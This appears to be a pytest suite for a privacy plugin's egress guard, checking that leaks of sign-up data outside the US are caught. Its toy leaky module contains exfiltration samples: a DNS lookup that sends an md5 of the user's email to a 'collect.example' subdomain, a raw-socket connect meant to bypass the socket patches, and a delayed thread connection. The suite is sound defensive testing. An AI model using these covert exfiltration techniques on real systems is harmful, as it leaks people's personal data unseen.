"""What us-storage makes of what the egress guard saw: FAILED, ERROR, or PASSED.

A toy module leaks during sign-up by one of the ways that used to pass
unseen; its suite runs with the guard told that a loopback post is a foreign
host, so a leak the guard misses still cannot leave the machine.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from outside_post import OutsidePost, no_lookup_escapes, outside_post

LEAKY_MODULE = """
import _socket
import hashlib
import smtplib
import socket
import subprocess
import threading
import time
from email.message import EmailMessage

import pytest

from pytest_stexcel_privacy import PrivacySuite
from pytest_stexcel_privacy.observe.audit import quietly
from pytest_stexcel_privacy.observe.egress import EgressGuard
from toy_adapter import ToyAdapter

POST = {post!r}


def reach_the_post():
    sock = _socket.socket()
    try:
        sock.connect(POST[0])
    except OSError:
        pass
    finally:
        sock.close()


class Leaky(ToyAdapter):
    allowed_subprocesses = {allowed!r}

    def __init__(self, workdir, smtp):
        super().__init__(workdir)
        self.smtp = smtp

    def welcome(self, person):
        message = EmailMessage()
        message["From"], message["To"], message["Subject"] = "shop@example.com", person.email, "hi"
        message.set_content("welcome")
        with smtplib.SMTP(*self.smtp) as client:
            client.send_message(message)

    def register(self, person):
        account = super().register(person)
        {leak}
        return account


class TestLeaky(PrivacySuite):
    @pytest.fixture
    def privacy_adapter(self, tmp_path, mail_sink):
        return Leaky(tmp_path, mail_sink.address)

    @pytest.fixture
    def egress_guard(self):
        guard = EgressGuard(POST).start()
        yield guard
        guard.stop()
"""


@pytest.fixture
def post() -> Iterator[OutsidePost]:
    with outside_post() as post:
        yield post


def run_leaky(
    pytester: pytest.Pytester, post: OutsidePost, leak: str, allowed: tuple[str, ...] = ()
) -> tuple[pytest.RunResult, str]:
    pytester.makepyfile(
        test_leaky=LEAKY_MODULE.format(post=post.endpoints, leak=leak, allowed=allowed)
    )
    result = pytester.runpytest_inprocess(
        "-p", "no:cacheprovider", "-k", "test_personal_data_stays_in_the_us"
    )
    line = next(x for x in result.stdout.lines if x.startswith("us-storage "))
    return result, line.split()[1]


def test_a_connection_below_the_socket_patches_fails(
    pytester: pytest.Pytester, post: OutsidePost
) -> None:
    result, status = run_leaky(pytester, post, "reach_the_post()")
    assert status == "FAILED"
    result.stdout.fnmatch_lines(
        [
            "*connections to destinations not shown to be in the United States*",
            f"*- connect 127.0.0.1:{post.tcp_address[1]}: no region (unknown;*",
        ]
    )
    assert post.arrivals() == []


def test_a_lookup_carrying_the_email_fails_with_the_value_masked(
    pytester: pytest.Pytester, post: OutsidePost
) -> None:
    leak = (
        "try:\n"
        "            digest = hashlib.md5(person.email.lower().encode()).hexdigest()\n"
        "            socket.gethostbyname(digest + '.collect.example')\n"
        "        except OSError:\n"
        "            pass"
    )
    with no_lookup_escapes():
        result, status = run_leaky(pytester, post, leak)
    assert status == "FAILED"
    result.stdout.fnmatch_lines(
        [
            "*personal data sent outside the United States*",
            "*- dns *.collect.example: no region (unknown;*carrying email as md5 '*",
        ]
    )


def test_a_thread_that_connects_late_fails(pytester: pytest.Pytester, post: OutsidePost) -> None:
    leak = "threading.Thread(target=lambda: (time.sleep(0.3), reach_the_post())).start()"
    result, status = run_leaky(pytester, post, leak)
    assert status == "FAILED"
    result.stdout.fnmatch_lines([f"*- connect 127.0.0.1:{post.tcp_address[1]}: *"])
    assert post.arrivals() == []


def test_a_process_the_guard_cannot_see_into_is_an_error(
    pytester: pytest.Pytester, post: OutsidePost
) -> None:
    result, status = run_leaky(pytester, post, "subprocess.run(['true'], check=True)")
    assert status == "ERROR"
    result.stdout.fnmatch_lines(
        ["*cannot see this process's network: true (started by subprocess.Popen: true)*"]
    )


def test_an_allow_listed_program_passes(pytester: pytest.Pytester, post: OutsidePost) -> None:
    result, status = run_leaky(
        pytester, post, "subprocess.run(['true'], check=True)", allowed=("true",)
    )
    assert status == "PASSED"
    result.assert_outcomes(passed=1)


def test_mail_the_guard_did_not_see_leave_is_an_error(
    pytester: pytest.Pytester, post: OutsidePost
) -> None:
    leak = "with quietly():  # a native mail library, say\n            self.welcome(person)"
    result, status = run_leaky(pytester, post, leak)
    assert status == "ERROR"
    result.stdout.fnmatch_lines(["*the egress guard saw none of the module's own connections*"])


def test_mail_the_guard_saw_leave_passes(pytester: pytest.Pytester, post: OutsidePost) -> None:
    result, status = run_leaky(pytester, post, "self.welcome(person)")
    assert status == "PASSED"
    result.assert_outcomes(passed=1)
